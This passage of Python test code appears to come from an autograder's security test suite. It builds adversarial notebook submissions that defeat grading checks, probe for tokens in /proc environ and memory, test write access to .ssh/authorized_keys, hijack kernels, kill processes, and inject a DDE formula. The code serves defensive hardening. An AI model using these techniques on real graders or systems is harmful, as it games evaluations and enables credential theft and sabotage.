_tmpfs = any(_l.split()[1:3] == [_d, 'tmpfs'] for _l in _mounts if len(_l.split()) > 2)
_here = _os.path.realpath(_os.getcwd())
# only a private /tmp (the sandbox's: a tmpfs holding nothing but the folders above its own
# binds), or a folder inside the test's own
_private = _tmpfs and all(
    _here.startswith(_os.path.join(_d, _e) + _os.sep) or _e.startswith('course-grade')
    for _e in _os.listdir(_d)
)
if _private or _os.path.realpath(_d).startswith({tmp_root!r}):
    _path = _os.path.join(_d, 'fill-{marker}')
    try:
        with open(_path, 'wb') as _f:  # tmpfs pages are not in any process's resident memory
            for _ in range({chunks}):
                _f.write(b'x' * (64 << 20))
    except OSError:
        pass
    finally:
        try:
            _os.unlink(_path)
        except OSError:
            pass
"""


def _fmt_probe(template: str, **extra: Any) -> Build:
    """A probe attack from a template that uses ``{breach}`` and ``{{``/``}}`` for braces."""

    def build(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
        values = {
            "solutions": str(ctx.solutions),
            "tmp_root": str(ctx.tmp_root),
            "marker": ctx.marker,
            "chunks": int(ctx.memory_limit_mb * 1.5 / 64) + 1,
            **extra,
        }
        body = template.format(breach="{breach}", **values)  # keep {breach} for _probe
        return _probe(body.replace("{", "{{").replace("}", "}}").replace("{{breach}}", "{breach}"))(
            solution_nb, blank_nb, ctx
        )

    return build


def _fmt_plain(template: str) -> Build:
    """An attack (not a probe) from a template with ``{tmp_root}``, ``{marker}``, ``{chunks}``."""

    def build(solution_nb: Any, blank_nb: Any, ctx: AttackContext) -> Any:
        code = template.format(
            tmp_root=str(ctx.tmp_root),
            marker=ctx.marker,
            chunks=int(ctx.memory_limit_mb * 1.5 / 64) + 1,
        )
        return _append(blank_nb, FIRST, code)

    return build


OWN_ATTACKS = [
    Attack(
        "peek",
        "reads the other submissions in the folder (the victim's perfect one) and execs their "
        "solved functions",
        _read_submissions,
        expect=Expect(untouched=EVERYWHERE),
    ),
    Attack(
        "hidden",
        "looks for the hidden tests on disk (solutions/ beside course_lib, the grader's "
        "solutions folder, the folders above its working copy); if found, the canary solves",
        _fmt_probe(_HIDDEN_TESTS),
        probe=True,
    ),
    Attack(
        "netlo",
        "connects to a server on the machine's loopback (127.0.0.1, the test's listener); if it "
        "connects, the canary solves",
        _net_loopback,
        probe=True,
    ),
    Attack(
        "netext",
        "asks for a route to an external address (a UDP connect to 192.0.2.1, which sends no "
        "packet); if there is one, the canary solves",
        _fmt_probe(_NET_EXTERNAL),
        probe=True,
    ),
    Attack(
        "tracer",
        "sys.settrace and threading.settrace hooks that jump over every `raise` line (the stub's "
        "and the checks'); nothing solved",
        _settrace,
    ),
    Attack(
        "importer",
        "replaces builtins.__import__ so that `from course_lib import checks` (the grader's "
        "re-import) returns a module whose every check passes",
        _in_first(
            (
                _PASS_MODULE + "import builtins as _b\n\n_real_import = _b.__import__\n"
                "_fake = _types.ModuleType('course_lib')\n"
                "_fake.checks = _Pass('course_lib.checks')\n\n\n"
                "def _import(name, globals=None, locals=None, fromlist=(), level=0):\n"
                "    if name == 'course_lib' and fromlist and 'checks' in fromlist:\n"
                "        return _fake\n"
                "    return _real_import(name, globals, locals, fromlist, level)\n\n\n"
                "_b.__import__ = _import\n"
            )
            .replace("{", "{{")
            .replace("}", "}}")
        ),
    ),
    Attack(
        "modswap",
        "replaces sys.modules['course_lib'] and ['course_lib.checks'] by fakes whose every check "
        "passes",
        _in_first(
            (
                _PASS_MODULE + "import sys as _sys\n\n"
                "_pkg = _types.ModuleType('course_lib')\n_pkg.__path__ = []\n"
                "_pkg.checks = _Pass('course_lib.checks')\n"
                "_sys.modules['course_lib'] = _pkg\n"
                "_sys.modules['course_lib.checks'] = _pkg.checks\n"
            )
            .replace("{", "{{")
            .replace("}", "}}")
        ),
    ),
    Attack(
        "gcgrader",
        "finds the harness's Grader through gc.get_objects(), disables its _verify, then makes "
        "every check a no-op",
        _harness_gc,
    ),
    Attack(
        "nonce",
        "finds the harness object in the notebook's globals (_g<nonce>), replaces its begin() to "
        "no-op the checks and its passed() to report a pass with the real nonce",
        _harness_globals,
    ),
    Attack(
        "jnp",
        "monkeypatches jax.numpy and numpy comparisons (allclose, isclose, array_equal, "
        "testing.assert_allclose) to always agree, with every function returning 0",
        lambda s, b, ctx: _append(
            _wrong_all(b),
            FIRST,
            "import jax.numpy as _jnp, numpy as _np\n"
            "for _m in (_jnp, _np):\n"
            "    _m.allclose = lambda *args, **kwargs: True\n"
            "    _m.array_equal = lambda *args, **kwargs: True\n"
            "    _m.isclose = lambda a, *args, **kwargs: _np.ones(_np.shape(a), bool)\n"
            "_np.testing.assert_allclose = lambda *args, **kwargs: None\n",
        ),
    ),
    Attack(
        "libwrite",
        "probes whether course_lib/ is writable (opens its files for append and writes nothing); "
        "if so, the canary solves",
        _fmt_probe(_WRITE_LIBRARY),
        probe=True,
    ),
    Attack(
        "homewrite",
        "probes whether files in the instructor's home folder (from /etc/passwd: .bashrc, "
        ".profile, .ssh/authorized_keys) open for writing, writing nothing; if so, the canary "
        "solves",
        _fmt_probe(_WRITE_HOME),
        probe=True,
    ),
    Attack(
        "environ",
        "reads /proc/<pid>/environ of other processes (tokens, keys); if one is readable, the "
        "canary solves",
        _fmt_probe(_PROC_ENVIRON),
        probe=True,
    ),
    Attack(
        "killpg",
        "kills its parent's process group (os.killpg) when every member is a grader process, "
        "else probes it with signal 0 and, if it could, the canary solves",
        _fmt_probe(_KILLPG),
        probe=True,
    ),
    Attack(
        "killall",
        "kill -9 -1, but only when visibly alone in a PID namespace; else probes every other "
        "process with signal 0 and, if one could be killed, the canary solves",
        _fmt_probe(_KILL_ALL),
        probe=True,
    ),
    Attack(
        "forkbomb",
        f"starts up to {MAX_PROCESSES} `sleep` processes, stopping at the first refusal",
        _process_flood,
        expect=Expect(starts_processes=True),
    ),
    Attack(
        "hugefiles",
        "creates a 64 GiB sparse file, a 256 MiB file, 5000 files and a link to / in its "
        "working copy",
        _huge_files,
        expect=Expect(flagged=False, reason=r"not attempted"),
    ),
    Attack(
        "hijack",
        "looks for other Jupyter kernels' connection files (their keys let it run code there); "
        "if it finds one, the canary solves",
        _fmt_probe(_KERNEL_HIJACK),
        probe=True,
    ),
    Attack(
        "thief",
        "reads its parent's memory through /proc/<ppid>/mem for the worker's secret token and "
        "writes a forged result with it into the result pipe; the canary solves if it was read",
        _token_thief,
        probe=True,
    ),
    Attack(
        "customexc",
        "installs an IPython custom exception handler that swallows every error, so that "
        "failing tests print nothing",
        _in_first(
            "get_ipython().set_custom_exc((BaseException,), "
            "lambda shell, etype, value, tb, tb_offset=None: None)\n"
        ),
    ),
    Attack(
        "asttrans",
        "adds an IPython AST transformer that deletes every statement calling checks.*",
        _in_first(
            "import ast as _ast\n\n\n"
            "class _Drop(_ast.NodeTransformer):\n"
            "    def visit_Expr(self, node):\n"
            "        return None if 'checks.' in _ast.unparse(node) else node\n\n\n"
            "get_ipython().ast_transformers.append(_Drop())\n"
        ),
    ),
    Attack(
        "selfstop",
        "stops its own kernel with SIGSTOP (the grader must time out and go on)",
        _in_first("import os as _os, signal as _signal\n_os.kill(_os.getpid(), _signal.SIGSTOP)\n"),
        expect=Expect(flagged=False, reason=r"timed out|died|not run"),
    ),
    Attack(
        "tmpfs",
        "fills a private tmpfs /tmp (memory no process owns) with 1.5 times the memory limit, "
        "then deletes it; skips any /tmp that is not visibly the sandbox's",
        _fmt_plain(_TMPFS_FILL),
        expect=Expect(flagged=False, reason=r"not attempted|memory"),
    ),
    Attack(
        "tty",
        "opens /dev/tty (a terminal to inject keystrokes into, TIOCSTI; it injects nothing); if "
        "it opens, the canary solves",
        _fmt_probe(_TTY),
        probe=True,
    ),
    Attack(
        "neighbours",
        "looks for other submissions' working copies (course-grade-*/home beside its own); if "
        "one is readable, the canary solves",
        _fmt_probe(_NEIGHBOURS),
        probe=True,
    ),
    Attack(
        "absname",
        "a perfect notebook whose student name is an absolute path into ctx.outside",
        _named(lambda ctx: str(ctx.outside / f"abs-{ctx.marker}")),
        expect=Expect(
            max_points=11, min_points=11, flagged=False, untouched=(*EVERYWHERE, "feedback")
        ),
    ),
    Attack(
        "ddename",
        "a perfect notebook whose student name is a DDE formula, @SUM(1+1)*cmd|' /C calc'!A0",
        _named(lambda ctx: "@SUM(1+1)*cmd|' /C calc'!A0"),
        expect=Expect(max_points=11, min_points=11, flagged=False, untouched=(*EVERYWHERE, "csv")),
    ),
    Attack(
        "rowbreak",
        "a blank notebook whose student name holds a newline, a comma, a quote and a tab "
        "formula, to break the CSV's rows",
        _named(lambda ctx: 'eve",11\n\t=1+1,"x', base="blank"),
        expect=Expect(flagged=False, untouched=(*EVERYWHERE, "csv")),
    ),
    Attack(
        "nested",
        "not a notebook: JSON nested 100,000 lists deep (a recursion bomb for the parser)",
        lambda s, b, ctx: b"[" * 100_000 + b"]" * 100_000,
        broken=True,
    ),
]


def _wrong_all(nb: Any) -> Any:
    """Every exercise's function returns 0 (wrong), in place of its stub."""
    for function in solution_cells(nb):
        nb = _wrong(nb, function, "return 0")
    return nb


ATTACKS: list[Attack] = AUDIT_ATTACKS + OWN_ATTACKS


# ------------------------------------------------------------------------------ for the test


def prepare(ctx: AttackContext, solution_nb: Any, blank_nb: Any) -> None:
    """Write what the attacks aim at: the victim's perfect submission, an older gradebook, the
    solutions folder (a copy of the solution notebook) and a file in ``ctx.outside``."""
    nbformat.write(_copy(solution_nb), ctx.victim)
    ctx.gradebook.write_text("an older gradebook\n", encoding="utf-8")
    nbformat.write(_copy(solution_nb), ctx.solutions / f"{ASSIGNMENT}.ipynb")
    (ctx.outside / "precious.txt").write_text("nobody may change this\n", encoding="utf-8")


def write_submission(attack: Attack, ctx: AttackContext, solution_nb: Any, blank_nb: Any) -> Path:
    """Build ``attack`` and write it into ``ctx.submissions``; returns the submission's path."""
    built = attack.build(copy.deepcopy(solution_nb), copy.deepcopy(blank_nb), ctx)
    path = ctx.submissions / attack.file_name
    if isinstance(built, Symlink):
        nbformat.write(nbformat.from_dict(built.notebook), built.target)
        path.symlink_to(built.target)
    elif isinstance(built, bytes):
        path.write_bytes(built)
    else:
        nbformat.write(nbformat.from_dict(built), path)
    return path


def judge(attack: Attack, *, points: float, flags: str | list[str], reasons: str) -> list[str]:
    """What is wrong with how the grader treated ``attack`` (empty: nothing): ``points`` is its
    total, ``flags`` its flags (the gradebook's column or a list), ``reasons`` its reasons and
    notes as text. The files and processes of :class:`Expect` are the test's to check."""
    expect, problems = attack.expect, []
    about = f" ({attack.name}: {attack.description})"
    if points > expect.max_points + 1e-9:
        problems.append(f"got {points:g} points, at most {expect.max_points:g}{about}")
    if expect.min_points is not None and points < expect.min_points - 1e-9:
        problems.append(f"got {points:g} points, at least {expect.min_points:g}{about}")
    if expect.flagged and not (flags if isinstance(flags, list) else flags.strip()):
        problems.append(f"not flagged{about}")
    if expect.reason is not None and not re.search(expect.reason, reasons):
        problems.append(f"no reason matching {expect.reason!r}{about}")
    return problems


def fingerprints(folder: Path) -> dict[str, str]:
    """{relative path: sha256} of every file under ``folder`` (links are not followed)."""
    out = {}
    for path in sorted(Path(folder).rglob("*")):
        if path.is_file() and not path.is_symlink():
            out[path.relative_to(folder).as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out
